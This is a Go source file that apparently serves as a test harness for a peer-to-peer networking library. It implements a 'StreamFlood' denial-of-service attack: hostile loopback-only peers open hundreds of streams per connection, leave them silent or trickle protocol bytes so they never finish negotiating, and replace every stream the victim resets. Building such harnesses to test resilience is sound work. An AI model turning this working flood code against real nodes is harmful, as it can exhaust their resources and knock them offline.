package attack

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	ic "github.com/p2pnet/p2pnet/crypto"
	"github.com/p2pnet/p2pnet/mux/yamux"
	"github.com/p2pnet/p2pnet/network"
	"github.com/p2pnet/p2pnet/peer"
	"github.com/p2pnet/p2pnet/protocol"
	"github.com/p2pnet/p2pnet/sec"
	"github.com/p2pnet/p2pnet/sec/noise"
	"github.com/p2pnet/p2pnet/transport"
	"github.com/p2pnet/p2pnet/transport/quic"
	"github.com/p2pnet/p2pnet/transport/tcp"
	"github.com/p2pnet/p2pnet/upgrader"

	ma "github.com/multiformats/go-multiaddr"
)

// DefaultFloodStreams is how many streams each connection of a
// StreamFlood keeps open at once unless told otherwise: as many as a
// QUIC peer of go-libp2p or p2pnet may open on one connection.
const DefaultFloodStreams = 256

// trickleMessage is what a trickling stream of a StreamFlood sends, one
// byte at a time: multistream-select's header, then a proposal. A victim
// that answers the proposal at all has waited 40 ticks.
const trickleMessage = "\x13/multistream/1.0.0\n" + "\x13/attack/never/1.0.0\n"

// StreamFloodConfig says where a StreamFlood comes from, what its
// streams do and for how long.
type StreamFloodConfig struct {
	// Target is the victim's peer ID.
	Target peer.ID
	// Addr is the victim's address, on loopback: TCP (the flood speaks
	// Noise and yamux) or QUIC v1.
	Addr ma.Multiaddr
	// Sources lists the loopback address each connection of the flood
	// comes from, one entry per connection: an address listed twice gives
	// two connections from it. Default: 127.0.0.2 alone.
	Sources []netip.Addr
	// OnePeerPerSource makes the connections from one address one peer.
	// By default every connection is a peer of its own.
	OnePeerPerSource bool
	// Streams is how many streams each connection keeps open at once:
	// whenever the victim resets one, the connection opens another.
	// Default: DefaultFloodStreams.
	Streams int
	// Trickle, when positive, makes every stream send multistream-select's
	// header and a protocol proposal one byte every Trickle, never
	// finishing in time. By default the streams send nothing at all, but
	// over QUIC, where a stream exists for the victim only once it
	// carries data, they send the first byte of the header and stop.
	Trickle time.Duration
	// Duration bounds the flood. It must be positive.
	Duration time.Duration
}

// StreamFloodStats counts what a StreamFlood did and what the victim did
// to it.
type StreamFloodStats struct {
	// Conns is the number of connections the flood established.
	Conns int64
	// Lost is the number of connections that ended before the flood
	// did: the victim closed them.
	Lost int64
	// Opened is the number of streams opened.
	Opened int64
	// Reset is the number of streams that ended before the flood did:
	// the victim refused them, or gave up waiting for their protocol.
	Reset int64
	// Open is the number of streams open now.
	Open int64
}

// StreamFlood is a set of hostile peers that open streams to a victim as
// fast as it lets them and never name a protocol: each connection keeps
// Streams streams open, silent or trickling, and replaces every stream
// the victim resets. It serves nothing: it resets the streams the victim
// opens (identify's included).
//
// Each connection has a transport of its own that listens on its source
// address before dialing, so that the connection leaves from there.
type StreamFlood struct {
	cfg    StreamFloodConfig
	quic   bool            // the flood runs over QUIC
	ctx    context.Context // ends with the flood
	cancel context.CancelFunc
	done   chan struct{} // closed once the flood has ended
	wg     sync.WaitGroup

	started   bool // the flood's goroutines run; done will be closed
	conns     []transport.CapableConn
	listeners []transport.Listener
	closers   []func() error // the QUIC transports

	nconns, lost, opened, reset, open atomic.Int64

	mu      sync.Mutex    // guards changed
	changed chan struct{} // closed and replaced whenever a count changes
}

// StartStreamFlood connects to the victim from every source (ctx bounds
// the dials) and starts the flood. The flood ends after cfg.Duration;
// Close ends it sooner, and must be called in any case.
func StartStreamFlood(ctx context.Context, cfg StreamFloodConfig) (*StreamFlood, error) {
	if cfg.Duration <= 0 {
		return nil, fmt.Errorf("%w: duration %v", ErrInvalidFlood, cfg.Duration)
	}
	if cfg.Target == "" || cfg.Addr == nil {
		return nil, fmt.Errorf("%w: no target", ErrInvalidFlood)
	}
	if len(cfg.Sources) == 0 {
		cfg.Sources = []netip.Addr{netip.MustParseAddr("127.0.0.2")}
	}
	for _, s := range cfg.Sources {
		if !s.IsLoopback() {
			return nil, fmt.Errorf("%w: source %s is not a loopback address", ErrInvalidFlood, s)
		}
	}
	if cfg.Streams <= 0 {
		cfg.Streams = DefaultFloodStreams
	}
	isQUIC := false
	for _, c := range cfg.Addr {
		isQUIC = isQUIC || c.Code() == ma.P_QUIC_V1
	}

	f := &StreamFlood{cfg: cfg, quic: isQUIC, done: make(chan struct{}), changed: make(chan struct{})}
	f.ctx, f.cancel = context.WithTimeout(context.Background(), cfg.Duration)
	keys := map[netip.Addr]ic.PrivKey{}
	for _, src := range cfg.Sources {
		priv := keys[src]
		if priv == nil {
			var err error
			if priv, _, err = ic.GenerateEd25519Key(rand.Reader); err != nil {
				f.Close()
				return nil, err
			}
			if cfg.OnePeerPerSource {
				keys[src] = priv
			}
		}
		c, err := f.dial(ctx, src, priv, isQUIC)
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("attack: connection from %s: %w", src, err)
		}
		f.conns = append(f.conns, c)
		f.nconns.Add(1)
	}
	for _, c := range f.conns {
		f.wg.Go(func() { f.refuseStreams(c) })
		f.wg.Go(func() { f.openStreams(c) })
	}
	f.started = true
	go func() {
		<-f.ctx.Done()
		f.closeConns()
		f.wg.Wait()
		close(f.done)
	}()
	f.notify()
	return f, nil
}

// dial connects to the victim from src with the identity priv, through
// a transport of its own listening on src.
func (f *StreamFlood) dial(ctx context.Context, src netip.Addr, priv ic.PrivKey, isQUIC bool) (transport.CapableConn, error) {
	var tr transport.Transport
	var laddr ma.Multiaddr
	ipPart := "/ip4/" + src.String()
	if src.Is6() {
		ipPart = "/ip6/" + src.String()
	}
	if isQUIC {
		qt, err := quic.New(priv, nil)
		if err != nil {
			return nil, err
		}
		f.closers = append(f.closers, qt.Close)
		tr = qt
		laddr, err = ma.NewMultiaddr(ipPart + "/udp/0/quic-v1")
		if err != nil {
			return nil, err
		}
	} else {
		st, err := noise.New(priv, []protocol.ID{yamux.ID})
		if err != nil {
			return nil, err
		}
		u, err := upgrader.New(upgrader.Config{
			Security: []sec.Transport{st},
			Muxers:   []upgrader.Muxer{{ID: yamux.ID, Mux: yamux.DefaultTransport}},
		})
		if err != nil {
			return nil, err
		}
		tr = tcp.New(u, nil)
		laddr, err = ma.NewMultiaddr(ipPart + "/tcp/0")
		if err != nil {
			return nil, err
		}
	}
	l, err := tr.Listen(laddr)
	if err != nil {
		return nil, err
	}
	f.listeners = append(f.listeners, l)
	return tr.Dial(ctx, f.cfg.Addr, f.cfg.Target)
}

// refuseStreams resets every stream the victim opens on c, until c ends.
func (f *StreamFlood) refuseStreams(c transport.CapableConn) {
	for {
		s, err := c.AcceptStream()
		if err != nil {
			if f.ctx.Err() == nil {
				f.lost.Add(1)
				f.notify()
			}
			return
		}
		s.Reset()
	}
}

// openStreams keeps cfg.Streams streams open on c until the flood ends.
func (f *StreamFlood) openStreams(c transport.CapableConn) {
	slots := make(chan struct{}, f.cfg.Streams)
	var live sync.Map // network.MuxedStream → *int (bytes sent), for trickling
	if f.cfg.Trickle > 0 {
		f.wg.Go(func() { f.trickle(&live) })
	}
	for {
		select {
		case slots <- struct{}{}:
		case <-f.ctx.Done():
			return
		}
		s, err := c.OpenStream(f.ctx)
		if err != nil {
			<-slots
			if f.ctx.Err() != nil || c.IsClosed() {
				return
			}
			continue
		}
		sent := new(int)
		if f.quic {
			// Show the stream to the victim.
			if _, err := s.Write([]byte{trickleMessage[0]}); err == nil {
				*sent = 1
			}
		}
		f.opened.Add(1)
		f.open.Add(1)
		live.Store(s, sent)
		f.notify()
		f.wg.Go(func() {
			defer func() { <-slots }()
			err := holdStream(s)
			live.Delete(s)
			f.open.Add(-1)
			if f.ctx.Err() == nil && errors.Is(err, network.ErrReset) {
				f.reset.Add(1)
			}
			s.Reset()
			f.notify()
		})
	}
}

// holdStream reads s until it ends, which only the victim or the end of
// the flood brings about.
func holdStream(s network.MuxedStream) error {
	var b [64]byte
	for {
		if _, err := s.Read(b[:]); err != nil {
			return err
		}
	}
}

// trickle sends the next byte of trickleMessage on every live stream
// every cfg.Trickle.
func (f *StreamFlood) trickle(live *sync.Map) {
	tick := time.NewTicker(f.cfg.Trickle)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
		case <-f.ctx.Done():
			return
		}
		live.Range(func(k, v any) bool {
			s, sent := k.(network.MuxedStream), v.(*int)
			if *sent < len(trickleMessage) {
				s.SetWriteDeadline(time.Now().Add(f.cfg.Trickle))
				if _, err := s.Write([]byte{trickleMessage[*sent]}); err == nil {
					*sent++
				}
			}
			return true
		})
	}
}

// notify wakes the callers of WaitFor.
func (f *StreamFlood) notify() {
	f.mu.Lock()
	close(f.changed)
	f.changed = make(chan struct{})
	f.mu.Unlock()
}

// Stats returns what the flood has done so far.
func (f *StreamFlood) Stats() StreamFloodStats {
	return StreamFloodStats{
		Conns:  f.nconns.Load(),
		Lost:   f.lost.Load(),
		Opened: f.opened.Load(),
		Reset:  f.reset.Load(),
		Open:   f.open.Load(),
	}
}

// WaitFor waits until cond holds for the flood's counts, which it checks
// at once and after every change, or until ctx ends.
func (f *StreamFlood) WaitFor(ctx context.Context, cond func(StreamFloodStats) bool) error {
	for {
		f.mu.Lock()
		changed := f.changed
		f.mu.Unlock()
		if st := f.Stats(); cond(st) {
			return nil
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return fmt.Errorf("attack: waiting for the stream flood (%+v): %w", f.Stats(), ctx.Err())
		}
	}
}

// closeConns closes every connection of the flood, which ends its
// streams.
func (f *StreamFlood) closeConns() {
	for _, c := range f.conns {
		c.Close()
	}
}

// Done is closed once the flood has ended, after its duration or after
// Close, and every stream of it has ended.
func (f *StreamFlood) Done() <-chan struct{} { return f.done }

// Close ends the flood: it closes every connection, waits for the
// flood's goroutines and closes its listeners and transports.
func (f *StreamFlood) Close() error {
	f.cancel()
	if f.started {
		<-f.done
	} else {
		f.closeConns()
		f.wg.Wait()
	}
	for _, l := range f.listeners {
		l.Close()
	}
	for _, c := range f.closers {
		c()
	}
	return nil
}
